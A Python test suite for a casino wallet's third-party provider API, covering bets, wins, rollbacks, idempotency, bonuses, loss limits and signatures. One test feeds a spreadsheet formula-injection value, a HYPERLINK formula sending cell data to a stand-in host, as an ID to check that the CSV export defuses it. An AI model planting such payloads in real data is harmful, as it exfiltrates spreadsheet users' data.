"""The seamless wallet's conformance suite (rules.md 10, api.md "Third-party games"),
written as a provider exercises a casino's wallet: every case a provider's own
certification runs, each on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import datetime
import io
import threading
import uuid
from typing import Any

import pytest
from fastapi.testclient import TestClient

from infra.audit.verify import verify
from infra.secrets import AesGcmBox, new_key, parse_key
from infra.store.store import Store
from infra.workers import LapsedProviderRoundWorker
from tests.conftest import AUDITOR, OPERATOR, SERVICE, Api, every_store_event
from tests.provider_client import (
    NEXT_SECRET,
    SECRET,
    ProviderClient,
    open_session,
    register,
)


@pytest.fixture
def provider(client: TestClient, api: Api) -> ProviderClient:
    register(client)
    api.player("alice", real="100.00")
    return ProviderClient(client)


@pytest.fixture
def token(client: TestClient, provider: ProviderClient) -> str:
    return open_session(client, "alice")


def cash(api: Api, player_id: str = "alice") -> str:
    balance: str = api.wallet(player_id)["balance"]
    return balance


def later(store: Store, seconds: int) -> None:
    """Move the application's clock on."""
    moved = datetime.datetime.now(datetime.UTC) + datetime.timedelta(seconds=seconds)
    store.app.clock = lambda: moved


def test_a_bet_takes_the_stake_at_once_and_a_win_credits(
    provider: ProviderClient, token: str, api: Api
) -> None:
    bet = provider.bet(token, "b1", "r1", "10.00")
    assert bet.status_code == 200, bet.text
    assert bet.json() == {
        "transaction_id": "b1", "cash": "90.00", "bonus": "0.00", "balance": "90.00",
        "used_cash": "10.00", "used_bonus": "0.00",
    }  # fmt: skip
    win = provider.win(token, "w1", "r1", "25.00")
    assert win.json() == {"transaction_id": "w1", "cash": "115.00", "bonus": "0.00",
                          "balance": "115.00"}  # fmt: skip
    assert provider.balance(token).json() == {"player_id": "alice", "currency": "USD",
                                              "cash": "115.00", "bonus": "0.00",
                                              "balance": "115.00"}  # fmt: skip
    assert cash(api) == "115.00"
    assert api.trial_balance()["total"] == "0.00"


def test_a_duplicate_bet_gets_the_first_answer_and_takes_nothing_more(
    provider: ProviderClient, token: str, api: Api
) -> None:
    first = provider.bet(token, "b1", "r1", "10.00")
    again = provider.bet(token, "b1", "r1", "10.00")
    assert again.status_code == 200
    assert again.json() == first.json()
    assert again.headers["Idempotent-Replayed"] == "true"
    assert "Idempotent-Replayed" not in first.headers
    assert cash(api) == "90.00"


def test_a_duplicate_win_is_credited_once(provider: ProviderClient, token: str, api: Api) -> None:
    provider.bet(token, "b1", "r1", "10.00")
    first = provider.win(token, "w1", "r1", "30.00")
    again = provider.win(token, "w1", "r1", "30.00")
    assert (again.status_code, again.json()) == (200, first.json())
    assert again.headers["Idempotent-Replayed"] == "true"
    assert cash(api) == "120.00"


def test_the_same_transaction_id_with_another_body_is_a_duplicate_transaction(
    provider: ProviderClient, token: str, api: Api
) -> None:
    provider.bet(token, "b1", "r1", "10.00")
    other = provider.bet(token, "b1", "r1", "11.00")
    assert (other.status_code, other.json()["code"]) == (409, "duplicate_transaction")
    as_win = provider.win(token, "b1", "r1", "5.00")
    assert (as_win.status_code, as_win.json()["code"]) == (409, "duplicate_transaction")
    assert cash(api) == "90.00"


def test_a_rollback_gives_back_exactly_what_its_bet_took(
    provider: ProviderClient, token: str, api: Api
) -> None:
    provider.bet(token, "b1", "r1", "10.00")
    provider.bet(token, "b2", "r1", "5.00")
    rolled = provider.rollback(token, "x1", "b1")
    assert (rolled.status_code, rolled.json()["cash"]) == (200, "95.00")
    again = provider.rollback(token, "x1", "b1")
    assert (again.json(), again.headers["Idempotent-Replayed"]) == (rolled.json(), "true")
    assert cash(api) == "95.00"
    assert api.trial_balance()["total"] == "0.00"


def test_a_rollback_names_a_bet_of_its_sessions_player_only(
    provider: ProviderClient, token: str, api: Api, client: TestClient
) -> None:
    provider.bet(token, "b1", "r1", "10.00")
    api.player("bob", real="10.00")
    bobs = open_session(client, "bob")
    answer = provider.rollback(bobs, "x1", "b1")
    assert (answer.status_code, answer.json()["code"]) == (401, "invalid_token")
    assert (cash(api), cash(api, "bob")) == ("90.00", "10.00")


def test_a_rollback_before_its_bet_leaves_a_tombstone_and_the_late_bet_is_refused(
    provider: ProviderClient, token: str, api: Api
) -> None:
    rolled = provider.rollback(token, "x1", "b1")
    assert (rolled.status_code, rolled.json()["cash"]) == (200, "100.00")
    late = provider.bet(token, "b1", "r1", "10.00")
    assert (late.status_code, late.json()["code"]) == (409, "transaction_rolled_back")
    assert cash(api) == "100.00"


def test_a_bet_after_its_rollback_is_refused(
    provider: ProviderClient, token: str, api: Api
) -> None:
    provider.bet(token, "b1", "r1", "10.00")
    provider.rollback(token, "x1", "b1")
    retried = provider.bet(token, "b1", "r1", "10.00")
    # The same bet again is answered as the first time (a provider's retry) ...
    assert (retried.status_code, retried.headers["Idempotent-Replayed"]) == (200, "true")
    # ... and takes nothing: the rollback stands.
    assert cash(api) == "100.00"


def test_nothing_follows_the_end_of_a_round(provider: ProviderClient, token: str, api: Api) -> None:
    provider.bet(token, "b1", "r1", "10.00")
    ended = provider.end_round(token, "r1")
    assert ended.json() == {"round_id": "r1", "status": "closed"}
    assert provider.end_round(token, "r1").json() == {"round_id": "r1", "status": "closed"}
    for answer in (
        provider.win(token, "w1", "r1", "20.00"),
        provider.bet(token, "b2", "r1", "1.00"),
        provider.rollback(token, "x1", "b1"),
    ):
        assert (answer.status_code, answer.json()["code"]) == (409, "round_closed")
    assert cash(api) == "90.00"


def test_a_win_with_an_expired_token_lands_and_a_bet_is_refused(
    provider: ProviderClient, token: str, api: Api, store: Store
) -> None:
    provider.bet(token, "b1", "r1", "10.00")
    later(store, 25 * 3600)
    win = provider.win(token, "w1", "r1", "20.00")
    assert (win.status_code, win.json()["cash"]) == (200, "110.00")
    bet = provider.bet(token, "b2", "r2", "1.00")
    assert (bet.status_code, bet.json()["code"]) == (401, "token_expired")
    unknown = provider.bet("no-such-token", "b3", "r2", "1.00")
    assert (unknown.status_code, unknown.json()["code"]) == (401, "invalid_token")


def test_a_bet_over_the_balance_is_refused_with_the_balance(
    provider: ProviderClient, token: str, api: Api
) -> None:
    answer = provider.bet(token, "b1", "r1", "100.01")
    assert (answer.status_code, answer.json()["code"]) == (409, "insufficient_funds")
    assert answer.json()["balance"] == "100.00"
    assert cash(api) == "100.00"


def test_an_excluded_player_bets_nothing_and_still_wins(
    provider: ProviderClient, token: str, api: Api
) -> None:
    provider.bet(token, "b1", "r1", "10.00")
    excluded = api.post("/v1/players/alice/exclusions", {"kind": "time_out", "days": 1})
    assert excluded.status_code == 201, excluded.text
    bet = provider.bet(token, "b2", "r1", "1.00")
    assert (bet.status_code, bet.json()["code"]) == (409, "player_excluded")
    win = provider.win(token, "w1", "r1", "5.00")
    assert (win.status_code, win.json()["cash"]) == (200, "95.00")


def test_a_loss_limit_refuses_a_bet_past_it(
    provider: ProviderClient, token: str, api: Api, client: TestClient
) -> None:
    limits = {"mode": "real", "deposit": {"day": None, "week": None, "month": None},
              "loss": {"day": "15.00", "week": None, "month": None}}  # fmt: skip
    assert client.put("/v1/players/alice/limits", json=limits, headers=SERVICE).status_code == 200
    assert provider.bet(token, "b1", "r1", "10.00").status_code == 200
    refused = provider.bet(token, "b2", "r1", "10.00")
    assert (refused.status_code, refused.json()["code"]) == (409, "loss_limit_exceeded")
    assert provider.win(token, "w1", "r1", "10.00").status_code == 200
    assert cash(api) == "100.00"


def test_a_win_for_a_round_without_a_bet_by_that_player_is_refused(
    provider: ProviderClient, token: str, api: Api, client: TestClient
) -> None:
    provider.bet(token, "b1", "r1", "10.00")
    api.player("bob", real="10.00")
    bobs = open_session(client, "bob")
    for answer in (provider.win(token, "w1", "r9", "5.00"), provider.win(bobs, "w2", "r1", "5.00")):
        assert (answer.status_code, answer.json()["code"]) == (409, "unknown_round")
    assert (cash(api), cash(api, "bob")) == ("90.00", "10.00")


def test_a_bad_signature_is_refused_and_changes_nothing(
    provider: ProviderClient, token: str, api: Api, client: TestClient
) -> None:
    forged = provider.call("bet", {"token": token, "transaction_id": "b1", "round_id": "r1",
                                   "game_id": "g", "amount": "10.00"},
                           signature="sha256=" + "0" * 64)  # fmt: skip
    assert (forged.status_code, forged.json()["code"]) == (401, "invalid_signature")
    stranger = ProviderClient(client, "acme", secret="another-secret-of-32-characters-000")
    assert stranger.bet(token, "b1", "r1", "10.00").status_code == 401
    unknown = ProviderClient(client, "nobody")
    assert unknown.balance(token).json()["code"] == "invalid_signature"
    # The signature is checked before the body is read: an unknown field signed is 422.
    odd = provider.call("balance", {"token": token, "extra": 1})
    assert (odd.status_code, odd.json()["code"]) == (422, "invalid_request")
    assert cash(api) == "100.00"


def test_a_rotated_secret_signs_beside_the_old_until_the_old_is_dropped(
    provider: ProviderClient, token: str, client: TestClient
) -> None:
    def rotate(secrets: list[str]) -> None:
        answer = client.put("/v1/providers/acme/secrets", json={"secrets": secrets},
                            headers=OPERATOR)  # fmt: skip
        assert answer.status_code == 200, answer.text
        assert "secrets" not in answer.json()

    rotate([SECRET, NEXT_SECRET])
    moved = ProviderClient(client, secret=NEXT_SECRET)
    assert provider.balance(token).status_code == 200
    assert moved.balance(token).status_code == 200
    rotate([NEXT_SECRET])
    assert provider.balance(token).json()["code"] == "invalid_signature"
    assert moved.balance(token).status_code == 200


def test_concurrent_bets_race_for_the_last_dollar(
    provider: ProviderClient, token: str, api: Api
) -> None:
    answers: list[int] = []

    def bet(n: int) -> None:
        answers.append(provider.bet(token, f"b{n}", "r1", "30.00").status_code)

    threads = [threading.Thread(target=bet, args=(n,)) for n in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(answers) == [200] * 3 + [409] * 5
    assert cash(api) == "10.00"
    assert api.trial_balance()["total"] == "0.00"


def test_a_provider_retrying_a_win_twenty_times_is_credited_once(
    provider: ProviderClient, token: str, api: Api, store: Store
) -> None:
    provider.bet(token, "b1", "r1", "10.00")
    later(store, 25 * 3600)  # the token long expired: a win still lands
    answers = [provider.win(token, "w1", "r1", "50.00") for _ in range(20)]
    assert {(a.status_code, a.json()["cash"]) for a in answers} == {(200, "140.00")}
    assert [a.headers.get("Idempotent-Replayed") for a in answers][1:] == ["true"] * 19
    assert cash(api) == "140.00"


def test_the_reconciliation_lists_every_call_as_json_and_csv(
    provider: ProviderClient, token: str, api: Api, client: TestClient
) -> None:
    provider.bet(token, "b1", "r1", "10.00")
    provider.bet(token, "b2", "r1", "2.00")
    provider.rollback(token, "x1", "b2")
    provider.win(token, "w1", "r1", "4.00")
    provider.end_round(token, "r1")
    provider.rollback(token, "x2", "b9")
    today = datetime.datetime.now(datetime.UTC).date().isoformat()
    path = f"/v1/providers/acme/transactions?from={today}&to={today}&limit=5"
    first = client.get(path, headers=AUDITOR).json()
    rows = [(t["transaction_id"], t["kind"], t["amount"], t["status"])
            for t in first["transactions"]]  # fmt: skip
    assert rows == [("b1", "bet", "10.00", "ok"), ("b2", "bet", "2.00", "rolled_back"),
                    ("x1", "rollback", "2.00", "ok"), ("w1", "win", "4.00", "ok"),
                    (None, "end_round", "0.00", "ok")]  # fmt: skip
    rest = client.get(f"{path}&after={first['next_after']}", headers=AUDITOR).json()
    assert [(t["transaction_id"], t["status"]) for t in rest["transactions"]] == [
        ("x2", "tombstone")
    ]
    assert rest["next_after"] is None
    text = client.get(path, headers={**OPERATOR, "Accept": "text/csv"}).text
    assert text.splitlines()[0] == "transaction_id,kind,round_id,player_id,amount,at,status"
    assert text.splitlines()[1].startswith("b1,bet,r1,alice,10.00,")


def test_an_id_a_spreadsheet_would_run_is_text_in_the_csv_and_as_sent_in_json(
    provider: ProviderClient, token: str, client: TestClient
) -> None:
    formula = '=HYPERLINK("http://x/?"&A1,"ok")'
    assert provider.bet(token, formula, "@r1", "1.00").status_code == 200
    today = datetime.datetime.now(datetime.UTC).date().isoformat()
    path = f"/v1/providers/acme/transactions?from={today}&to={today}"
    listed = client.get(path, headers=AUDITOR).json()["transactions"]
    assert [(t["transaction_id"], t["round_id"]) for t in listed] == [(formula, "@r1")]
    text = client.get(path, headers={**AUDITOR, "Accept": "text/csv"}).text
    row = next(csv.reader(io.StringIO(text.splitlines()[1])))
    assert row[:3] == ["'" + formula, "bet", "'@r1"]


def test_a_provider_is_registered_once_and_its_secrets_never_shown(
    client: TestClient, api: Api
) -> None:
    body: dict[str, Any] = {"provider_id": "acme", "name": "Acme", "secrets": [SECRET],
                            "bonus_allowed": True}  # fmt: skip
    headers = {**OPERATOR, "Idempotency-Key": uuid.uuid4().hex}
    first = client.post("/v1/providers", json=body, headers=headers)
    assert first.json() == {"provider_id": "acme", "name": "Acme", "bonus_allowed": True,
                            "theoretical_rtp": None}  # fmt: skip
    again = client.post("/v1/providers", json=body, headers={**headers, "Idempotency-Key": "k2"})
    assert (again.status_code, again.json()["code"]) == (409, "provider_exists")
    short = client.post("/v1/providers", json={**body, "secrets": ["short"]},
                        headers={**headers, "Idempotency-Key": "k3"})  # fmt: skip
    assert short.status_code == 422
    assert SECRET not in client.get("/v1/events?after=0&limit=500", headers=OPERATOR).text


def test_a_round_without_calls_ends_a_late_win_still_lands_and_the_index_shows_it(
    provider: ProviderClient, token: str, api: Api, store: Store
) -> None:
    provider.bet(token, "b1", "r1", "10.00")
    later(store, 3_601)
    bet = provider.bet(token, "b2", "r1", "1.00")
    assert (bet.status_code, bet.json()["code"]) == (409, "round_closed")
    rollback = provider.rollback(token, "x1", "b1")
    assert (rollback.status_code, rollback.json()["code"]) == (409, "round_closed")
    now = store.app.clock()
    ended = LapsedProviderRoundWorker(store, 3_600).end_lapsed_rounds(now)
    assert len(ended) == 1
    assert LapsedProviderRoundWorker(store, 3_600).end_lapsed_rounds(now) == []
    win = provider.win(token, "w1", "r1", "7.00")
    assert (win.status_code, win.json()["cash"]) == (200, "97.00")
    index = api.get("/v1/rounds?player_id=alice", headers=AUDITOR).json()["rounds"]
    assert [(r["game"], r["variant"], r["status"]) for r in index] == [
        ("external", "acme", "closed")
    ]
    trail = api.get(f"/v1/rounds/{index[0]['round_id']}/audit").json()
    assert [e["type"] for e in trail["events"]] == [
        "Opened", "BetTaken", "StakeTaken", "Ended", "WinPaid", "Credited"
    ]  # fmt: skip
    assert trail["status"] == "closed"
    shown = api.get(f"/v1/rounds/{index[0]['round_id']}").json()
    assert (shown["game"], shown["provider_round_id"], shown["ended_by"]) == (
        "external",
        "r1",
        "inactive",
    )
    assert (shown["staked"], shown["won"], shown["net"]) == ("10.00", "7.00", "-3.00")


def test_a_late_win_before_the_worker_passes_ends_the_round_and_it_stays_ended(
    provider: ProviderClient, token: str, api: Api, store: Store
) -> None:
    provider.bet(token, "b1", "r1", "10.00")
    later(store, 3_601)  # lapsed; the worker has not passed
    win = provider.win(token, "w1", "r1", "0.00")
    assert win.status_code == 200, win.text
    rollback = provider.rollback(token, "x1", "b1")  # the bet stands: the round is over
    assert (rollback.status_code, rollback.json()["code"]) == (409, "round_closed")
    bet = provider.bet(token, "b2", "r1", "1.00")
    assert (bet.status_code, bet.json()["code"]) == (409, "round_closed")
    assert LapsedProviderRoundWorker(store, 3_600).end_lapsed_rounds(store.app.clock()) == []
    index = api.get("/v1/rounds?player_id=alice", headers=AUDITOR).json()["rounds"]
    assert [(r["status"]) for r in index] == ["closed"]
    assert provider.balance(token).json()["cash"] == "90.00"


def test_the_revenue_and_rtp_reports_count_a_providers_rounds_and_a_late_win_on_its_day(
    provider: ProviderClient, token: str, api: Api, store: Store
) -> None:
    provider.bet(token, "b1", "r1", "10.00")
    provider.bet(token, "b2", "r1", "4.00")
    provider.rollback(token, "x1", "b2")
    provider.win(token, "w1", "r1", "6.00")
    provider.end_round(token, "r1")
    provider.bet(token, "b3", "r2", "10.00")
    provider.win(token, "w2", "r2", "12.00")
    provider.end_round(token, "r2")
    provider.bet(token, "b4", "r3", "5.00")  # still open: not counted yet
    revenue = api.get("/v1/reports/revenue?mode=real", headers=OPERATOR).json()
    rows = [(r["game"], r["variant"], r["rounds"], r["stakes"], r["returns"], r["ggr"])
            for r in revenue["rows"]]  # fmt: skip
    assert rows == [("external", "acme", 2, "20.00", "18.00", "2.00")]
    rtp = api.get("/v1/reports/rtp?game=external&variant=acme", headers=OPERATOR).json()
    assert (rtp["rounds"], rtp["actual_rtp"], rtp["theoretical_rtp"]) == (2, "0.900000", "0.960000")
    assert rtp["theoretical_source"] == "declared by the provider at registration"
    # A round left without calls is counted when it ends; its late win on its own day.
    later(store, 3_601)
    LapsedProviderRoundWorker(store, 3_600).end_lapsed_rounds(store.app.clock())
    provider.win(token, "w4", "r3", "1.00")
    revenue = api.get("/v1/reports/revenue?mode=real", headers=OPERATOR).json()
    total = revenue["totals"]["ltd"]
    assert (total["rounds"], total["stakes"], total["returns"]) == (3, "25.00", "19.00")
    assert verify(store, None, lambda _: None).problems == []


def test_a_providers_round_is_in_the_players_game_history_once_it_ends(
    provider: ProviderClient, token: str, api: Api, store: Store
) -> None:
    provider.bet(token, "b1", "r1", "10.00")
    provider.win(token, "w1", "r1", "4.00")
    provider.bet(token, "b2", "r2", "5.00")  # not over: not in the history yet
    provider.end_round(token, "r1")
    history = api.get("/v1/players/alice/history").json()["rounds"]
    assert [(h["net"], h["balance_before"], h["balance_after"], h["round"]["game"])
            for h in history] == [("-6.00", "100.00", "94.00", "external")]  # fmt: skip
    later(store, 3_601)  # r2 lapses, and a win lands after its end
    LapsedProviderRoundWorker(store, 3_600).end_lapsed_rounds(store.app.clock())
    provider.win(token, "w2", "r2", "8.00")
    history = api.get("/v1/players/alice/history").json()["rounds"]
    assert [(h["net"], h["balance_after"]) for h in history] == [
        ("3.00", "97.00"),
        ("-6.00", "94.00"),
    ]


def test_real_and_play_money_never_share_a_providers_round(
    provider: ProviderClient, token: str, api: Api, client: TestClient
) -> None:
    api.deposit("alice", "50.00", mode="play")
    body = {"provider_id": "acme", "game_id": "starburst", "mode": "play"}
    headers = {**SERVICE, "Idempotency-Key": uuid.uuid4().hex}
    play = client.post("/v1/players/alice/game-sessions", json=body, headers=headers).json()
    provider.bet(token, "b1", "r1", "10.00")
    provider.bet(play["token"], "b2", "r1", "5.00")
    provider.end_round(play["token"], "r1")
    win = provider.win(token, "w1", "r1", "20.00")  # the real round is still open
    assert (win.status_code, win.json()["cash"]) == (200, "110.00")
    assert (cash(api), api.wallet("alice", "play")["balance"]) == ("110.00", "45.00")
    assert api.trial_balance("play")["total"] == api.trial_balance()["total"] == "0.00"


# Bonus money in a provider's games (rules.md 9, 10).


def grant(api: Api, **body: Any) -> str:
    sent = {"amount": "100.00", "wagering": 1, "expires_in_days": 30} | body
    answer = api.post("/v1/players/alice/bonuses", sent, headers=OPERATOR)
    assert answer.status_code == 201, answer.text
    bonus_id: str = answer.json()["bonus_id"]
    return bonus_id


def accounts(api: Api) -> dict[str, str]:
    trial = api.trial_balance()
    assert trial["total"] == "0.00"
    return {row["account"]: row["balance"] for row in trial["accounts"]}


def bonus_balance(api: Api) -> str:
    active = api.get("/v1/players/alice/bonuses").json()["active"]
    return "none" if active is None else str(active["balance"])


def books(api: Api, store: Store) -> tuple[Any, ...]:
    """What a refusal must leave alone: the wallet, the bonuses, the books, the log."""
    bonuses = api.get("/v1/players/alice/bonuses").json()
    return api.wallet("alice"), bonuses, accounts(api), len(every_store_event(store))


@pytest.fixture
def bonus_token(client: TestClient, api: Api) -> str:
    """Alice with 20.00 cash and an active bonus of 100.00 (1x), at a provider that
    allows bonus money ("bonusy") and one that does not ("acme")."""
    register(client, "bonusy", bonus_allowed=True)
    register(client)
    api.player("alice", real="20.00")
    grant(api)
    return open_session(client, "alice", "bonusy")


def test_a_bonus_past_its_expiry_is_not_staked_before_the_worker_ends_it(
    client: TestClient, bonus_token: str, api: Api, store: Store
) -> None:
    later(store, 31 * 86_400)  # the bonus (30 days) expired; no worker has passed
    token = open_session(client, "alice", "bonusy")
    provider = ProviderClient(client, "bonusy")
    short = provider.bet(token, "b0", "r1", "30.00")  # cash 20.00; the bonus is no more
    assert (short.status_code, short.json()["code"]) == (409, "insufficient_funds")
    bet = provider.bet(token, "b1", "r1", "10.00")
    assert (bet.json()["used_cash"], bet.json()["used_bonus"]) == ("10.00", "0.00")
    assert bonus_balance(api) == "none"
    past = api.get("/v1/players/alice/bonuses").json()["past"]
    assert [b["status"] for b in past] == ["expired"]
    assert accounts(api)["casino:bonus"] == "0.00"


def test_a_bet_takes_cash_then_the_bonus_where_the_provider_allows_it(
    client: TestClient, bonus_token: str, api: Api, store: Store
) -> None:
    provider = ProviderClient(client, "bonusy")
    assert provider.balance(bonus_token).json() == {"player_id": "alice", "currency": "USD",
                                                    "cash": "20.00", "bonus": "100.00",
                                                    "balance": "120.00"}  # fmt: skip
    bet = provider.bet(bonus_token, "b1", "r1", "50.00")
    assert bet.status_code == 200, bet.text
    assert bet.json() == {
        "transaction_id": "b1", "cash": "0.00", "bonus": "70.00", "balance": "70.00",
        "used_cash": "20.00", "used_bonus": "30.00",
    }  # fmt: skip
    assert bonus_balance(api) == "70.00"
    assert accounts(api)["casino:games:bonusy"] == "50.00"
    assert verify(store, None, lambda _: None).problems == []


def test_a_provider_that_allows_no_bonus_takes_cash_only(
    client: TestClient, bonus_token: str, api: Api, store: Store
) -> None:
    provider = ProviderClient(client)
    token = open_session(client, "alice")
    assert provider.balance(token).json()["bonus"] == "0.00"
    before = books(api, store)
    short = provider.bet(token, "b1", "r1", "20.01")  # the bonus would have covered it
    assert (short.status_code, short.json()["code"]) == (409, "insufficient_funds")
    assert books(api, store) == before
    bet = provider.bet(token, "b2", "r1", "20.00")
    assert (bet.json()["used_cash"], bet.json()["used_bonus"]) == ("20.00", "0.00")
    assert provider.end_round(token, "r1").status_code == 200
    assert api.get("/v1/players/alice/bonuses").json()["active"]["wagered"] == "0.00"


def test_a_bet_above_the_bonus_maximum_stake_is_refused_and_changes_nothing(
    client: TestClient, api: Api, store: Store
) -> None:
    register(client, "bonusy", bonus_allowed=True)
    api.player("alice", real="20.00")
    grant(api, max_bet="40.00")
    token = open_session(client, "alice", "bonusy")
    provider = ProviderClient(client, "bonusy")
    before = books(api, store)
    refused = provider.bet(token, "b1", "r1", "40.01")
    assert (refused.status_code, refused.json()["code"]) == (409, "bonus_max_bet")
    assert books(api, store) == before
    assert provider.bet(token, "b2", "r1", "40.00").status_code == 200


def test_a_win_is_split_in_the_proportion_of_the_rounds_stakes(
    client: TestClient, bonus_token: str, api: Api, store: Store
) -> None:
    provider = ProviderClient(client, "bonusy")
    provider.bet(bonus_token, "b1", "r1", "50.00")  # 20.00 cash, 30.00 bonus
    win = provider.win(bonus_token, "w1", "r1", "10.01")  # bonus 6.00 (rounded down)
    assert win.json() == {"transaction_id": "w1", "cash": "4.01", "bonus": "76.00",
                          "balance": "80.01"}  # fmt: skip
    assert accounts(api)["bonus:alice"] == "76.00"
    assert provider.end_round(bonus_token, "r1").status_code == 200
    [day] = api.get("/v1/reports/bonus", headers=OPERATOR).json()["days"]
    assert (day["granted"], day["outstanding"]) == ("100.00", "76.00")
    revenue = api.get("/v1/reports/revenue?mode=real", headers=OPERATOR).json()
    [row] = [row for row in revenue["rows"] if row["game"] == "external"]
    assert (row["stakes"], row["returns"], row["bonus_stakes"], row["bonus_returns"]) == (
        "20.00", "4.01", "30.00", "6.00",
    )  # fmt: skip
    assert verify(store, None, lambda _: None).problems == []


def test_a_rollback_gives_back_each_part_where_it_came_from(
    client: TestClient, bonus_token: str, api: Api, store: Store
) -> None:
    provider = ProviderClient(client, "bonusy")
    provider.bet(bonus_token, "b1", "r1", "50.00")
    back = provider.rollback(bonus_token, "x1", "b1")
    assert back.json() == {"transaction_id": "x1", "cash": "20.00", "bonus": "100.00",
                           "balance": "120.00"}  # fmt: skip
    assert accounts(api)["casino:games:bonusy"] == "0.00"
    assert provider.end_round(bonus_token, "r1").status_code == 200
    assert api.get("/v1/players/alice/bonuses").json()["active"]["wagered"] == "0.00"
    assert verify(store, None, lambda _: None).problems == []


def test_the_revenue_report_splits_a_providers_round_as_the_wallet_moved_it(
    client: TestClient, bonus_token: str, api: Api
) -> None:
    provider = ProviderClient(client, "bonusy")
    provider.bet(bonus_token, "b1", "r1", "60.00")  # 20.00 cash, 40.00 bonus
    provider.bet(bonus_token, "b2", "r1", "10.00")  # all bonus, then taken back
    provider.rollback(bonus_token, "x2", "b2")
    provider.win(bonus_token, "w1", "r1", "30.00")  # 10.00 cash, 20.00 to the bonus
    provider.end_round(bonus_token, "r1")
    revenue = api.get("/v1/reports/revenue?mode=real", headers=OPERATOR).json()
    [row] = revenue["rows"]
    figures = [row[k] for k in ("stakes", "bonus_stakes", "returns", "bonus_returns", "ggr")]
    assert figures == ["20.00", "40.00", "10.00", "20.00", "10.00"]


def test_a_bonus_forfeited_before_the_rollback_sends_its_part_to_casino_bonus(
    client: TestClient, bonus_token: str, api: Api, store: Store
) -> None:
    provider = ProviderClient(client, "bonusy")
    bonus_id = api.get("/v1/players/alice/bonuses").json()["active"]["bonus_id"]
    provider.bet(bonus_token, "b1", "r1", "50.00")
    forfeit = api.post(f"/v1/players/alice/bonuses/{bonus_id}/forfeit")
    assert forfeit.status_code == 200, forfeit.text
    back = provider.rollback(bonus_token, "x1", "b1")
    assert back.json() == {"transaction_id": "x1", "cash": "20.00", "bonus": "0.00",
                           "balance": "20.00"}  # fmt: skip
    books_now = accounts(api)
    assert (books_now["casino:bonus"], books_now["bonus:alice"]) == ("0.00", "0.00")
    assert verify(store, None, lambda _: None).problems == []


def test_the_rounds_stakes_count_at_its_end_and_convert_the_bonus(
    client: TestClient, bonus_token: str, api: Api, store: Store
) -> None:
    provider = ProviderClient(client, "bonusy")
    provider.bet(bonus_token, "b1", "r1", "60.00")  # 20.00 cash, 40.00 bonus
    provider.bet(bonus_token, "b2", "r1", "5.00")
    provider.rollback(bonus_token, "x2", "b2")  # counts nothing
    assert api.get("/v1/players/alice/bonuses").json()["active"]["wagered"] == "0.00"
    provider.end_round(bonus_token, "r1")
    assert api.get("/v1/players/alice/bonuses").json()["active"]["wagered"] == "60.00"
    provider.bet(bonus_token, "b3", "r2", "40.00")  # all bonus
    later(store, 3_601)  # the provider never ends it: the worker does
    now = store.app.clock()
    assert len(LapsedProviderRoundWorker(store, 3_600).end_lapsed_rounds(now)) == 1
    listed = api.get("/v1/players/alice/bonuses").json()
    assert listed["active"] is None
    assert [(b["status"], b["wagered"]) for b in listed["past"]] == [("converted", "100.00")]
    win = provider.win(bonus_token, "w3", "r2", "80.00")  # the bonus share, now cash
    assert (win.json()["cash"], win.json()["bonus"]) == ("100.00", "0.00")
    assert accounts(api)["bonus:alice"] == "0.00"
    assert verify(store, None, lambda _: None).problems == []


def test_a_loss_limit_counts_only_the_cash_part_of_a_bet(
    client: TestClient, bonus_token: str, api: Api
) -> None:
    limits = {"mode": "real", "deposit": {"day": None, "week": None, "month": None},
              "loss": {"day": "20.00", "week": None, "month": None}}  # fmt: skip
    assert client.put("/v1/players/alice/limits", json=limits, headers=SERVICE).status_code == 200
    provider = ProviderClient(client, "bonusy")
    bet = provider.bet(bonus_token, "b1", "r1", "50.00")  # a loss of 20.00 cash, no more
    assert (bet.status_code, bet.json()["used_bonus"]) == (200, "30.00")
    all_bonus = provider.bet(bonus_token, "b2", "r1", "10.00")
    assert (all_bonus.status_code, all_bonus.json()["used_cash"]) == (200, "0.00")
    win = provider.win(bonus_token, "w1", "r1", "6.00")  # 2.00 cash back: lost 18.00
    assert win.json()["cash"] == "2.00"
    assert provider.bet(bonus_token, "b3", "r2", "2.00").status_code == 200
    api.deposit("alice", "5.00")
    refused = provider.bet(bonus_token, "b4", "r2", "0.01")  # cash again: past 20.00
    assert (refused.status_code, refused.json()["code"]) == (409, "loss_limit_exceeded")


def test_a_sessions_token_is_answered_again_but_never_stored_in_clear(
    provider: ProviderClient, client: TestClient, store: Store
) -> None:
    """The token is the session's credential: a repeated request (the same
    Idempotency-Key) gets it again, yet no table of the store holds it in clear (the
    receipt keeps it sealed with the service's secret key, rules.md 5)."""
    body = {"provider_id": "acme", "game_id": "starburst", "mode": "real"}
    headers = {**SERVICE, "Idempotency-Key": "open-once"}
    first = client.post("/v1/players/alice/game-sessions", json=body, headers=headers)
    again = client.post("/v1/players/alice/game-sessions", json=body, headers=headers)
    assert (first.status_code, again.status_code) == (201, 201)
    assert again.json() == first.json()
    assert again.headers["Idempotent-Replayed"] == "true"
    token = first.json()["token"]
    with store.database.read() as cursor:
        cursor.execute("SELECT answer FROM command_receipts")
        kept = b"".join(bytes(row[0]) for row in cursor.fetchall() if row[0] is not None)
    assert kept and token.encode() not in kept
    assert token not in repr([vars(event) for event in every_store_event(store)])
    assert provider.balance(token).json()["cash"] == "100.00"  # and it opens the session


def test_a_receipt_sealed_under_another_secret_key_is_a_named_503_not_a_500(
    provider: ProviderClient, client: TestClient, store: Store
) -> None:
    """A server restarted with another CASINO_SECRET_KEY cannot open the token its
    receipt keeps sealed: it says so (a setting to fix), and hands out no other token."""
    body = {"provider_id": "acme", "game_id": "starburst", "mode": "real"}
    headers = {**SERVICE, "Idempotency-Key": "open-once"}
    assert client.post("/v1/players/alice/game-sessions", json=body, headers=headers).is_success
    store.commands.box = AesGcmBox(parse_key(new_key()))
    again = client.post("/v1/players/alice/game-sessions", json=body, headers=headers)
    assert (again.status_code, again.json()["code"]) == (503, "secret_key_mismatch")
    assert "CASINO_SECRET_KEY" in again.json()["detail"]
